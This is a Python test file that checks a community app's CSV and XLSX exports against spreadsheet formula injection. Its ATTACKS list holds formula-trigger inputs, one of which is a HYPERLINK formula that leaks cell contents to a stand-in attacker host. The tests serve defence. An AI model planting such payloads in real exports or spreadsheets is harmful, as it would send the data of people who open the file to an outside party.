"""Exports never carry a formula a resident typed: CSV cells get an apostrophe, XLSX cells stay text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from sociale_basis.core.exports import csv_writer, safe_text, sheet_append

ATTACKS = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A2,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_csv_cells_that_could_start_a_formula_are_made_text(value):
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerow(["titel", value, 12, -3.5])
    row = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert row[1] == "'" + value
    assert row[2:] == ["12", "-3.5"]  # numbers stay numbers, also negative ones


def test_plain_texts_are_left_alone():
    for value in ["Koffie-ochtend", "Buurtbox Haren", "e-mail@example.nl", "50% korting", ""]:
        assert safe_text(value) == value


@pytest.mark.parametrize("value", ATTACKS)
def test_xlsx_cells_are_stored_as_text_never_as_formulas(value):
    book = Workbook()
    sheet_append(book.active, ["titel", value, 7])
    data = io.BytesIO()
    book.save(data)
    data.seek(0)
    cell = load_workbook(data).active.cell(row=1, column=2)
    assert cell.data_type == "s" and cell.value == value
    assert load_workbook(io.BytesIO(data.getvalue())).active.cell(row=1, column=3).value == 7
